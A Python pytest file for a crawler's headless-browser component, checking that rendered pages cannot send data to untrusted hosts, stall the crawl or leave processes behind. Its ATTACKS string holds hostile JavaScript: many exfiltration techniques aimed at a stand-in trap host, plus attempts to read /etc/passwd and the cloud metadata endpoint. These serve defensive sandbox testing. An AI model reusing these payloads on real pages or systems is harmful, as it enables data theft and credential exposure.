"""The browser, real: what it may ask for, that it ends in time, and that nothing of it is left behind."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import scrapy
from scrapy.crawler import AsyncCrawlerRunner

from crawler.fetch import browser as browser_file
from crawler.fetch import browser_page
from crawler.fetch.browser import NAMES, Browser, NoBrowser, find_browser, lent_browser
from crawler.fetch.browser_guard import refusal
from crawler.fetch.browser_look import looking
from crawler.fetch.egress import TrustedHosts
from crawler.fetch.look import Looker, Seen
from crawler.fetch.politeness import Manners
from crawler.page import Ask
from crawler.run import scrapy_settings
from storage.sightings import RENDERED, Answer, PlaceKind
from tests.county_server import CountyServer, Fault, Host, Reply, Route, html

ROOT = Path(__file__).parents[3]
NOW = datetime(2019, 4, 1, 6, tzinfo=ZoneInfo("Asia/Shanghai"))
needs_browser = pytest.mark.skipif(
    not any(shutil.which(name) for name in NAMES), reason="no browser installed: nothing of the browser is proven here"
)
NO_ROBOTS = Reply(status=404, headers=(("Content-Type", "text/html"),), body=b"no")
LONG = "青山县人民政府按照条例主动公开政府信息，依申请公开、行政复议和存在的问题都写在这里。" * 8


class _Crawl(scrapy.Spider):
    """Does what a test wants with a looker of the whole machinery."""

    name = "one"

    def __init__(self, *, trusted: TrustedHosts, doing: Callable[[Looker], Any], looker: Any) -> None:
        super().__init__()
        self.trusted, self.doing, self.looker, self.done = trusted, doing, looker, None
        self.settle, self.failure = None, None
        self.fault: Exception | None = None

    async def start(self) -> Any:
        looker = self.looker(
            self.crawler.engine.download_async, trusted=self.trusted, delay_seconds=0.0, clock=lambda: NOW
        )
        try:
            self.done = await self.doing(looker)
        except Exception as error:  # noqa: BLE001 - Scrapy would only log it
            self.fault = error
        for nothing in ():
            yield nothing


def with_looker(host: Host, doing: Callable[[Looker], Any], *, render: str = "auto") -> tuple[Any, list[str]]:
    """What `doing` gives back for a looker that trusts one host, and the notes."""

    async def run() -> tuple[Any, list[str]]:
        crawler = AsyncCrawlerRunner(scrapy_settings(Manners(delay_seconds=0.0))).create_crawler(_Crawl)
        async with looking(render, {}) as (looker, notes):
            await AsyncCrawlerRunner(scrapy_settings(Manners(delay_seconds=0.0))).crawl(
                crawler, trusted=TrustedHosts((host.url("/"),)), doing=doing, looker=looker
            )
        spider: Any = crawler.spider
        if spider.fault is not None:
            raise spider.fault
        return spider.done, notes

    return asyncio.run(run())


def shown(host: Host, pages: Mapping[str, Route], *, kind: PlaceKind = PlaceKind.LIST) -> Seen:
    """What the browser makes of `/`."""
    host.routes = {"/robots.txt": NO_ROBOTS, **pages}

    async def doing(looker: Looker) -> Seen:
        ask = Ask(url=host.url("/"), kind=kind)
        seen = await looker.look(ask)
        return seen if seen.body is not None and seen.body.wire is not None else await looker.render(ask, seen)

    seen, _ = with_looker(host, doing)
    assert isinstance(seen, Seen)
    return seen


def page(script: str, *, body: str = "<ul id='rows'></ul>") -> Reply:
    return html(
        f"<!DOCTYPE html><html><head><meta charset=utf-8><title>年报</title></head><body><p>{LONG}</p>{body}"
        f"<script>{script}</script></body></html>"
    )


@pytest.fixture
def host(county_server: CountyServer) -> Host:
    return county_server.host()


class Trap:
    """A port on loopback that no county owns; it counts who connects, over TCP and UDP."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.77", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.77", self.port))
        self.caught: list[str] = []
        for waiting in (self._tcp, self._udp):
            threading.Thread(target=waiting, daemon=True).start()

    def _tcp(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            self.caught.append(connection.recv(200).decode("latin-1"))
            connection.close()

    def _udp(self) -> None:
        while True:
            try:
                self.caught.append(repr(self.udp.recv(100)))
            except OSError:
                return

    def close(self) -> None:
        self.tcp.shutdown(socket.SHUT_RDWR)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    one = Trap()
    yield one
    one.close()


@needs_browser
def test_the_page_is_shown_from_what_came_and_both_are_kept(host: Host) -> None:
    seen = shown(host, {"/": page("rows.innerHTML = '<li><a href=/a.html>2018年</a></li>'")})
    assert seen.answer is Answer.PAGE
    assert seen.faults == ()
    assert seen.body is not None
    assert seen.body.wire is not None
    assert b"/a.html>2018" in seen.body.wire.content
    assert '<li><a href="/a.html">2018年</a></li>'.encode() in seen.body.content
    names = {name for name, _ in seen.body.headers}
    assert RENDERED in names
    assert not {"ETag", "Last-Modified", "Content-Length"} & names
    assert [asked.path for asked in host.log] == ["/robots.txt", "/"]


ATTACKS = """
const T = 'http://TRAP', W = 'ws://TRAP';
const tries = [
  () => fetch(T + '/fetch', {mode: 'no-cors'}), () => fetch(T + '/post', {method: 'POST', body: 'x', mode: 'no-cors'}),
  () => { const x = new XMLHttpRequest(); x.open('GET', T + '/xhr'); x.send(); },
  () => navigator.sendBeacon(T + '/beacon', 'x'), () => new Image().src = T + '/image',
  () => new WebSocket(W + '/ws'), () => new EventSource(T + '/events'), () => window.open(T + '/popup'),
  () => new Worker(URL.createObjectURL(new Blob(["importScripts('" + T + "/worker.js')"]))),
  () => new SharedWorker(T + '/shared.js'), () => navigator.serviceWorker.register('/sw.js'),
  () => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:TRAP'}]}); p.createDataChannel('x');
          p.createOffer().then(o => p.setLocalDescription(o)); },
  () => { const f = document.createElement('iframe'); document.body.append(f);
          const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:TRAP'}]});
          p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));
          new f.contentWindow.WebSocket(W + '/ws2'); },
  () => { const f = document.createElement('form'); f.action = T + '/form'; f.target = '_blank'; document.body.append(f); f.submit(); },
  () => { for (const [tag, key, more] of [['iframe', 'src', {}], ['script', 'src', {}], ['embed', 'src', {}], ['object', 'data', {}],
            ['video', 'src', {}], ['link', 'href', {rel: 'stylesheet'}], ['link', 'href', {rel: 'preconnect'}],
            ['link', 'href', {rel: 'prefetch'}], ['link', 'href', {rel: 'preload', as: 'script'}], ['link', 'href', {rel: 'icon'}],
            ['link', 'href', {rel: 'manifest'}], ['link', 'href', {rel: 'prerender'}]]) {
          const e = Object.assign(document.createElement(tag), more); e[key] = T + '/' + tag; document.body.append(e); } },
  () => fetch('/away'), () => { const s = document.createElement('script'); s.src = '/away'; document.body.append(s); },
  () => fetch('file:///etc/passwd'), () => fetch('http://169.254.169.254/latest/'), () => fetch('http://[::1]:PORT/six'),
  () => import(T + '/module.js'), () => { location.href = T + '/location'; },
];
for (const one of tries) { try { one(); } catch (e) { } }
setTimeout(() => { rows.innerHTML = '<li>still here</li>'; }, 600);
"""


@needs_browser
def test_t089_nothing_leaves_for_a_port_that_is_not_the_countys(host: Host, trap: Trap) -> None:
    place = f"127.0.0.77:{trap.port}"
    script = ATTACKS.replace("TRAP", place).replace("PORT", str(trap.port))
    away = Reply(status=302, headers=(("Location", f"http://{place}/redirected"),))
    worker = Reply(headers=(("Content-Type", "text/javascript"),), body=f"fetch('http://{place}/sw')".encode())
    seen = shown(host, {"/": page(script), "/away": away, "/sw.js": worker})
    assert trap.caught == []
    assert seen.body is not None
    assert b"<li>still here</li>" in seen.body.content
    assert seen.faults, "what the page did not get is said"
    assert b"root:" not in seen.body.content
    assert len(host.asked("/away")) == 2, "the redirect itself was asked for, and not followed inside"
    assert host.asked("/sw.js") == []


TRUSTED = TrustedHosts(("http://www.qs.gov.cn/",))


@pytest.mark.parametrize(
    ("url", "kind", "method", "found"),
    [
        ("http://www.qs.gov.cn/a.js", "script", "GET", ""),
        ("http://www.qs.gov.cn/api", "xhr", "POST", ""),
        ("https://www.qs.gov.cn/api", "fetch", "GET", ""),
        ("http://www.qs.gov.cn/frame.html", "document", "GET", ""),
        ("http://www.qs.gov.cn/api", "xhr", "DELETE", "a DELETE request"),
        ("http://www.qs.gov.cn/a.png", "image", "GET", None),
        ("http://www.qs.gov.cn/a.css", "stylesheet", "GET", None),
        ("http://www.qs.gov.cn/a.woff", "font", "GET", None),
        ("http://www.qs.gov.cn/a.mp4", "media", "GET", None),
        ("ws://www.qs.gov.cn/", "websocket", "GET", None),
        ("http://www.qs.gov.cn/b", "ping", "POST", None),
        ("https://cdn.example.com/jquery.js", "script", "GET", ""),
        ("https://api.province.gov.cn/list", "xhr", "GET", ""),
        ("https://api.province.gov.cn/list", "xhr", "POST", "a POST request to another host"),
        ("https://ads.example.com/", "document", "GET", None),
        ("https://hm.baidu.com/hm.js", "script", "GET", None),
        ("file:///etc/passwd", "fetch", "GET", "no web address"),
        ("http://user@www.qs.gov.cn/", "fetch", "GET", "no web address"),
    ],
)
def test_what_a_page_may_ask_for(url: str, kind: str, method: str, found: str | None) -> None:
    assert refusal(url, kind, method, TRUSTED) == found


@needs_browser
@pytest.mark.parametrize(
    "script",
    [
        "alert('x'); confirm('y'); prompt('z'); rows.innerHTML = '<li>done</li>'",
        "window.open('/other'); window.open('about:blank'); rows.innerHTML = '<li>done</li>'",
        "const a = document.createElement('a'); a.href = '/file.zip'; a.download = 'x'; document.body.append(a); a.click();"
        "rows.innerHTML = '<li>done</li>'",
        "onbeforeunload = () => 'stay'; setTimeout(() => { location.href = '/file.zip' }, 100); rows.innerHTML = '<li>done</li>'",
        "navigator.geolocation.getCurrentPosition(() => {}, e => { rows.innerHTML = '<li>done</li>' })",
        "Notification.requestPermission().then(p => { if (p === 'denied') rows.innerHTML = '<li>done</li>' })",
    ],
    ids=["dialogs", "popups", "download", "leaving", "geolocation", "notifications"],
)
def test_t090_nothing_that_a_page_opens_stops_it_or_stays(host: Host, script: str) -> None:
    seen = shown(host, {"/": page(script), "/file.zip": Reply(body=b"PK"), "/other": html("other")})
    assert seen.body is not None
    assert b"<li>done</li>" in seen.body.content
    assert host.asked("/file.zip") == host.asked("/other") == []


@needs_browser
@pytest.mark.parametrize(
    ("script", "fault"),
    [
        ("let n = 0; setInterval(() => fetch('/poll?' + n++), 100)", "without end"),
        ("setInterval(() => document.body.append(document.createElement('p'), 'x'), 50)", "did not come to rest"),
        ("setTimeout(() => { while (true) { } }, 300)", "takes too long"),
        ("fetch('/hang')", "did not come to rest"),
        ("const m = document.createElement('meta'); m.content = 'x'.repeat(9e6); document.head.append(m)", "more than"),
        ("location.reload()", "leads on"),
    ],
    ids=["asks for ever", "grows for ever", "busy for ever", "waits for ever", "too much", "begins anew"],
)  # fmt: skip
def test_a_page_that_never_comes_to_rest_ends_in_time_and_is_doubted(
    host: Host, monkeypatch: pytest.MonkeyPatch, script: str, fault: str
) -> None:
    monkeypatch.setattr(browser_page, "LOAD_SECONDS", 6.0)
    monkeypatch.setattr(browser_file, "CLOSE_SECONDS", 3.0)
    seen = shown(host, {"/": page(script), "/poll": Reply(body=b"{}"), "/hang": Reply(fault=Fault.HANG)})
    assert fault in "; ".join(seen.faults)
    assert len(host.asked("/poll")) <= 12


@needs_browser
def test_a_report_that_never_comes_to_rest_is_partial(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser_page, "LOAD_SECONDS", 6.0)
    seen = shown(
        host, {"/": page("setInterval(() => document.body.append('x'), 50)")}, kind=PlaceKind.REPORT
    )  # fmt: skip
    assert seen.answer is Answer.PARTIAL


@needs_browser
def test_a_challenge_that_a_script_shows_is_one(host: Host) -> None:
    script = (
        "document.title = '安全验证'; document.body.innerHTML = '<p>请完成安全验证，拖动滑块</p><div id=captcha></div>'"
    )
    seen = shown(host, {"/": page(script)}, kind=PlaceKind.REPORT)
    assert seen.answer is not Answer.PAGE


@needs_browser
def test_requests_carry_our_name_and_no_cookie(host: Host) -> None:
    first = html(
        "<html><body><ul id=rows></ul><script>document.cookie = 'a=b'; fetch('/data', {credentials: 'include'})</script>"
    )
    shown(
        host,
        {"/": Reply(headers=(*first.headers, ("Set-Cookie", "sid=1")), body=first.body), "/data": Reply(body=b"1")},
    )
    (asked,) = host.asked("/data")
    assert asked.headers["user-agent"].startswith("nianbao/")
    assert "cookie" not in asked.headers


@needs_browser
def test_scripts_are_fetched_once_for_all_pages_and_the_process_is_recycled(
    host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser_file, "RECYCLE_AFTER", 2)
    script = Reply(headers=(("Content-Type", "text/javascript"),), body=b"document.title = 'shown'")
    host.routes = {"/robots.txt": NO_ROBOTS, "/lib.js": script}
    host.routes |= {f"/{n}": html(f"<html><body><p>{LONG}</p><script src=/lib.js></script>") for n in range(4)}
    processes: list[set[int]] = []
    others = descendants(os.getpid())

    async def doing(looker: Looker) -> list[Seen]:
        seen = []
        for n in range(4):
            ask = Ask(url=host.url(f"/{n}"))
            seen.append(await looker.render(ask, await looker.look(ask)))
            processes.append(descendants(os.getpid()) - others)
        return seen

    seen, notes = with_looker(host, doing)
    assert all(b"<title>shown</title>" in one.body.content for one in seen)
    assert len(host.asked("/lib.js")) == 1
    assert processes[0] & processes[1]
    assert not processes[1] & processes[2], "a new process after two pages"
    assert processes[2] & processes[3]
    assert notes == (
        ["chromium runs without its sandbox, as this runs as root; run it as an ordinary user"]
        if os.geteuid() == 0
        else []
    )
    assert gone(processes[3])


def test_a_browser_is_found_by_its_names_or_where_it_came_along(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    assert find_browser() is None
    assert find_browser(str(tmp_path / "absent")) is None
    bundled = tmp_path / "bundled"
    for name, path in (
        ("bundled", bundled),
        ("google-chrome", tmp_path / "google-chrome"),
        ("chromium", tmp_path / "chromium"),
    ):
        path.write_text("#!/bin/sh\n")
        path.chmod(0o755)
        assert find_browser(str(bundled)) == str(path), name


@pytest.mark.parametrize("broken", ["nothing", "no program", "dies", "no package"])
def test_without_a_browser_the_look_stays_as_it_was_and_says_why(
    host: Host, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, broken: str
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    if broken == "dies":
        (tmp_path / "chromium").write_text("#!/bin/sh\nexit 1\n")
        (tmp_path / "chromium").chmod(0o755)
    elif broken == "no program":
        (tmp_path / "chromium").write_text("nothing to run")
        (tmp_path / "chromium").chmod(0o755)
    elif broken == "no package":
        monkeypatch.setitem(sys.modules, "playwright.async_api", None)
    host.routes = {"/robots.txt": NO_ROBOTS, "/": page("1")}
    others = descendants(os.getpid())

    async def doing(looker: Looker) -> list[Seen]:
        ask = Ask(url=host.url("/"))
        first = await looker.look(ask)
        return [first, await looker.render(ask, first), await looker.render(ask, first)]

    (first, second, third), notes = with_looker(host, doing)
    assert second.body == third.body == first.body
    assert second.faults == third.faults != ()
    assert "browser" in second.faults[0]
    assert len(notes) == 1, "said once"
    assert gone(descendants(os.getpid()) - others)


def descendants(pid: int) -> set[int]:
    """All living processes below one; other tests in this process may have left a parser's child for the next to use."""
    parents = {}
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            status = (folder / "stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if status[0] != "Z":
            parents[int(folder.name)] = int(status[1])
    found: set[int] = set()
    fresh = {pid}
    while fresh:
        fresh = {child for child, parent in parents.items() if parent in fresh} - found
        found |= fresh
    return found


def gone(pids: set[int], *, seconds: float = 20) -> bool:
    """Whether processes end within a while."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        alive = {pid for pid in pids if Path(f"/proc/{pid}/stat").exists() and not _is_dead(pid)}
        if not alive:
            return True
        time.sleep(0.1)
    return False


def _is_dead(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
    except OSError:
        return True


LEAVING = """
import asyncio, sys
from crawler.fetch.browser import lent_browser

async def main():
    async with lent_browser() as browser:
        await browser._ready()
        print("ready", flush=True)
        if sys.argv[1] == "raises":
            raise RuntimeError("a fault")
        if sys.argv[1] == "ends":
            return
        await asyncio.sleep(60)

asyncio.run(main())
"""


@needs_browser
@pytest.mark.parametrize("way", ["ends", "raises", "SIGINT", "SIGTERM", "SIGKILL"])
def test_no_process_is_left_behind_however_we_leave(way: str) -> None:
    process = subprocess.Popen(
        [sys.executable, "-c", LEAVING, way], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    assert process.stdout is not None
    assert process.stdout.readline() == "ready\n"
    below = descendants(process.pid)
    assert way in ("ends", "raises") or len(below) >= 3, "driver and browser run"
    if way.startswith("SIG"):
        process.send_signal(getattr(signal, way))
    process.wait(timeout=60)
    assert gone(below)


@needs_browser
def test_the_last_who_gives_it_back_closes_it_and_one_page_is_shown_at_a_time() -> None:
    async def run() -> None:
        async with lent_browser() as one:
            async with lent_browser() as other:
                assert one is other
                await one._ready()
            assert one._chromium is not None
            assert one._chromium.is_connected()
        assert one._chromium is None
        with pytest.raises(NoBrowser):
            one.problem = "none today"
            await one._ready()

    asyncio.run(run())
    assert re.search("None", repr(Browser()._chromium))
